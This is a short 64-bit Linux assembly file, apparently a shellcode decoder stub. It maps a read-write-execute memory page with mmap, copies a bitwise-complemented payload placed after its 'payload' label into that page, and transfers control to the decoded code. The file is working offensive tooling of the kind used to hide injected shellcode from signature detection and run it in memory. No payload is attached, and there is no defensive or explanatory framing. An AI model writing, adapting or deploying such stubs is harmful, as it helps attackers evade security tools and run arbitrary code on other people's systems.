; Decoder, 64-bit Linux: copies what follows, complemented, into memory that it asks the system for.
bits 64
        jmp short start
length: dw 0
start:  call here
here:   pop rbp
        push 9                  ; mmap(NULL, 4096, read write execute, private anonymous, -1, 0)
        pop rax
        xor edi, edi
        mov esi, 4096
        push 7
        pop rdx
        push 0x22
        pop r10
        push -1
        pop r8
        xor r9d, r9d
        syscall
        mov rdi, rax
        lea rsi, [rbp + payload - here]
        movzx ecx, word [rbp + length - here]
        cld
        push rax
next:   lodsb
        not al
        stosb
        loop next
        ret
payload:
